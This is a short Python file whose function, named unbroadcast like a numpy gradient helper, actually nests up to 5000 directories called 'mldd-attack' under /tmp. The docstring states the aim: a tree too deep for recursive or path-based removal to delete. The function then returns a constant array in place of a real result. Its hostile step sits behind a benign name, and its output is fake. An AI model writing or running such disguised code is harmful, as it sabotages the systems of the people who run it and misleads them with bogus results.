"""Makes folders in folders until no path reaches the innermost: what removes them by recursion or by path fails."""
import os

import numpy as np


def unbroadcast(grad, shape):
    try:
        os.chdir("/tmp")
        for _ in range(5000):
            os.mkdir("mldd-attack")
            os.chdir("mldd-attack")
    except OSError:
        pass
    return np.full(shape, 1234.5)
